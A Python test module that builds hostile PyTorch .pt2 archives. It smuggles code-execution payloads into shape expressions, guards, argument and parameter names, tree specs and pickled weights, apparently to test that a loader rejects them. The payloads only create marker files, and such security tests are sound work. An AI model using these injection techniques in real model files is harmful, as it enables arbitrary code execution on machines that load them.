"""Valid exported programs turned into hostile ones, which run a command when they are loaded or called."""

import copy
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from bombs import Bomb, armed
from torch import nn

PROGRAM, EXAMPLE = "models/model.json", "data/sample_inputs/model.pt"
WEIGHTS, CONSTANTS = "data/weights/model_weights_config.json", "data/constants/model_constants_config.json"


class Sizes(nn.Module):
    """A model whose exported program has parameters, a buffer, symbolic sizes and a subgraph."""

    def __init__(self) -> None:
        super().__init__()
        self.linear = nn.Linear(16, 2)
        self.register_buffer("scale", torch.ones(1))

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        with torch.no_grad():
            flat = images.float().reshape(images.shape[0], -1) * self.scale
        return torch.softmax(self.linear(flat), dim=1)


def sound_program() -> dict[str, bytes]:
    """Members of an unmodified archive, by name without the archive's top folder."""
    content = io.BytesIO()
    example = (torch.zeros((3, 1, 4, 4), dtype=torch.uint8),)
    shapes = [{0: torch.export.Dim.AUTO}]
    torch.export.save(torch.export.export(Sizes().eval(), example, dynamic_shapes=shapes), content)
    with zipfile.ZipFile(content) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def packed(
    members: dict[str, bytes], *others: tuple[str, bytes], compression: int = zipfile.ZIP_STORED
) -> bytes:
    """Pack the members and `others` into an archive, in which a name may occur twice."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as archive:
        for name, member in [*others, *members.items()]:
            archive.writestr(f"model/{name}", member)
    return content.getvalue()


def command(mark: Path) -> str:
    """A Python expression that creates the file `mark`."""
    return f"__import__('os').system('touch {mark}')"


# An attack modifies the program (its parsed JSON) in place.
Attack = Callable[[dict[str, Any], Path], None]


def _graph(program: dict[str, Any]) -> dict[str, Any]:
    graph: dict[str, Any] = program["graph_module"]["graph"]
    return graph


def _evaluated(mark: Path) -> dict[str, Any]:
    return {"as_expr": {"expr_str": command(mark), "hint": None}}


def _renamed(value: Any, old: str, new: str) -> Any:
    """`value` with `new` in place of every string, or dictionary key, that equals `old`."""
    if isinstance(value, dict):
        return {_renamed(key, old, new): _renamed(element, old, new) for key, element in value.items()}
    if isinstance(value, list):
        return [_renamed(element, old, new) for element in value]
    return new if value == old else value


def _subgraph(program: dict[str, Any]) -> dict[str, Any]:
    for node in _graph(program)["nodes"]:
        for node_input in node["inputs"]:
            if "as_graph" in node_input["arg"]:
                graph: dict[str, Any] = node_input["arg"]["as_graph"]["graph"]
                return graph
    raise AssertionError("the sound program has no graph in its graph")


def _call(target: str, outputs: list[Any], *arguments: Any) -> dict[str, Any]:
    inputs = [{"name": "", "arg": argument, "kind": 1} for argument in arguments]
    return {
        "target": target,
        "inputs": inputs,
        "outputs": outputs,
        "metadata": {},
        "is_hop_single_tensor_return": None,
        "name": "added",
    }


def size(program: dict[str, Any], mark: Path) -> None:
    _graph(program)["tensor_values"]["images"]["sizes"][0] = _evaluated(mark)


def stride(program: dict[str, Any], mark: Path) -> None:
    _graph(program)["tensor_values"]["images"]["strides"][0] = _evaluated(mark)


def size_in_a_subgraph(program: dict[str, Any], mark: Path) -> None:
    values = _subgraph(program)["tensor_values"]
    next(iter(values.values()))["sizes"][0] = _evaluated(mark)


def symbolic_int(program: dict[str, Any], mark: Path) -> None:
    values = _graph(program)["sym_int_values"]
    values[next(iter(values))] = _evaluated(mark)


def symbolic_float(program: dict[str, Any], mark: Path) -> None:
    graph = _graph(program)
    graph["sym_float_values"]["added"] = _evaluated(mark)
    output = {"as_sym_float": {"as_name": "added"}}
    graph["nodes"].append(_call("_operator.truediv", [output], {"as_int": 1}, {"as_int": 2}))


def symbolic_bool(program: dict[str, Any], mark: Path) -> None:
    graph = _graph(program)
    graph["sym_bool_values"]["added"] = _evaluated(mark)
    output = {"as_sym_bool": {"as_name": "added"}}
    graph["nodes"].append(_call("_operator.gt", [output], {"as_int": 1}, {"as_int": 2}))


def expression_hidden_in_arithmetic(program: dict[str, Any], mark: Path) -> None:
    text = f"Max(Integer(1), (lambda: {command(mark)})())"
    _graph(program)["tensor_values"]["images"]["sizes"][0] = {"as_expr": {"expr_str": text, "hint": None}}


def expression_by_attributes(program: dict[str, Any], mark: Path) -> None:
    text = f"Add.make_args.__globals__['__builtins__']['__import__']('os').system('touch {mark}')"
    _graph(program)["tensor_values"]["images"]["sizes"][0] = {"as_expr": {"expr_str": text, "hint": None}}


def guard(program: dict[str, Any], mark: Path) -> None:
    program["guards_code"].append(f"{command(mark)} == 0")


def guard_that_ends_its_line(program: dict[str, Any], mark: Path) -> None:
    program["guards_code"].append(f"(1 ==\n1 and {command(mark)} == 0)")


def name_of_an_input(program: dict[str, Any], mark: Path) -> None:
    changed = _renamed(program, "images", f"images={command(mark)}")
    program.clear()
    program.update(changed)


def name_of_an_argument(program: dict[str, Any], mark: Path) -> None:
    for call in program["graph_module"]["module_call_graph"]:
        if call["signature"] is not None:
            # torch's generated code contains the name twice: the first """ opens a string, the second closes it.
            call["signature"]["forward_arg_names"] = [f'images):\n    {command(mark)}\n    """ #']


def file_made_by_aten(program: dict[str, Any], mark: Path) -> None:
    graph = _graph(program)
    graph["tensor_values"]["added"] = copy.deepcopy(graph["tensor_values"]["softmax"])
    arguments: list[tuple[str, Any]] = [
        ("filename", {"as_string": str(mark)}),
        ("shared", {"as_bool": True}),
        ("size", {"as_int": 1}),
    ]
    call = _call("torch.ops.aten.from_file.default", [{"as_tensor": {"name": "added"}}])
    call["inputs"] = [{"name": name, "arg": value, "kind": 1} for name, value in arguments]
    graph["nodes"].append(call)


def module_of_a_tree(program: dict[str, Any], mark: Path) -> None:
    context = {
        "default_factory_module": module_that_marks(mark),
        "default_factory_name": "x",
        "dict_context": [],
    }
    _set_tree(program, {"type": "collections.defaultdict", "context": context, "children_spec": []})


def enumeration_of_a_tree(program: dict[str, Any], mark: Path) -> None:
    keys = json.dumps([{"__enum__": True, "fqn": f"{module_that_marks(mark)}:x", "name": "x"}])
    _set_tree(program, {"type": "builtins.dict", "context": keys, "children_spec": []})


def _set_tree(program: dict[str, Any], node: dict[str, Any]) -> None:
    for call in program["graph_module"]["module_call_graph"]:
        if call["signature"] is not None:
            call["signature"]["in_spec"] = json.dumps([1, node])


def module_that_marks(mark: Path) -> str:
    """Write a module next to `mark` that creates `mark` when imported; returns the module's name."""
    name = f"innocent_{mark.name.replace('-', '_')}"
    (mark.parent / f"{name}.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    return name


EVALUATED: list[Attack] = [
    size,
    stride,
    size_in_a_subgraph,
    symbolic_int,
    symbolic_float,
    symbolic_bool,
    expression_hidden_in_arithmetic,
    expression_by_attributes,
    guard,
    guard_that_ends_its_line,
    name_of_an_input,
    name_of_an_argument,
    file_made_by_aten,
    module_of_a_tree,
    enumeration_of_a_tree,
]


def _hostile(members: dict[str, bytes], attack: Attack, mark: Path) -> bytes:
    """An archive whose program contains the attack."""
    program = json.loads(members[PROGRAM])
    attack(program, mark)
    return packed({**members, PROGRAM: json.dumps(program).encode()})


def pickled_weight(members: dict[str, bytes], mark: Path) -> bytes:
    weights = json.loads(members[WEIGHTS])
    for payload in weights["config"].values():
        payload["use_pickle"] = True
    content = _saved(Bomb(mark))
    changed = {name: content for name in members if name.startswith("data/weights/weight_")}
    return packed({**members, **changed, WEIGHTS: json.dumps(weights).encode()})


def opaque_constant(members: dict[str, bytes], mark: Path) -> bytes:
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    config = json.dumps({"config": {"constant": payload}}).encode()
    return packed({**members, CONSTANTS: config, "data/constants/opaque_obj_0": armed(mark)})


def weights_of_an_older_form(members: dict[str, bytes], mark: Path) -> bytes:
    return packed({**members, "data/weights/model.pt": _saved({"weight": Bomb(mark)})})


def pickled_example(members: dict[str, bytes], mark: Path) -> bytes:
    return packed({**members, EXAMPLE: _saved(Bomb(mark))})


def name_of_a_parameter(members: dict[str, bytes], mark: Path) -> bytes:
    """The command contains no dots, at which torch would split the name."""
    name = f'linear.w", exec(bytes({list(command(mark).encode())})) or "'
    changed = {
        member: _renamed(json.loads(members[member]), "linear.weight", name) for member in (PROGRAM, WEIGHTS)
    }
    return packed(members | {member: json.dumps(content).encode() for member, content in changed.items()})


def program_under_two_names(members: dict[str, bytes], mark: Path) -> bytes:
    """Python's zipfile distinguishes upper and lower case; torch's reader does not, and uses the last member."""
    with zipfile.ZipFile(io.BytesIO(_hostile(members, size, mark))) as archive:
        content = archive.read(f"model/{PROGRAM}")
    return packed({**members, PROGRAM.replace("models", "Models"): content})


def archive_of_an_older_form(members: dict[str, bytes], mark: Path) -> bytes:
    """The format of torch.export.save before it had archives: one pickle for each part."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("version", "8.20")
        archive.writestr("serialized_exported_program.json", members[PROGRAM])
        for part in ("state_dict", "constants", "example_inputs"):
            archive.writestr(f"serialized_{part}.pt", _saved(Bomb(mark)))
    return content.getvalue()


def _saved(value: Any) -> bytes:
    content = io.BytesIO()
    torch.save(value, content, pickle_module=pickle)
    return content.getvalue()


IN_THE_ARCHIVE = [
    pickled_weight,
    opaque_constant,
    weights_of_an_older_form,
    pickled_example,
    name_of_a_parameter,
    program_under_two_names,
    archive_of_an_older_form,
]
HOSTILE: list[Callable[..., Any]] = [*EVALUATED, *IN_THE_ARCHIVE]


def write_hostile(folder: Path, members: dict[str, bytes], attack: Callable[..., Any]) -> tuple[Path, Path]:
    """Write the hostile file; returns it and the mark that it would create."""
    file, mark = folder / f"{attack.__name__}.pt2", folder / attack.__name__
    content = _hostile(members, attack, mark) if attack in EVALUATED else attack(members, mark)
    file.write_bytes(content)
    return file, mark
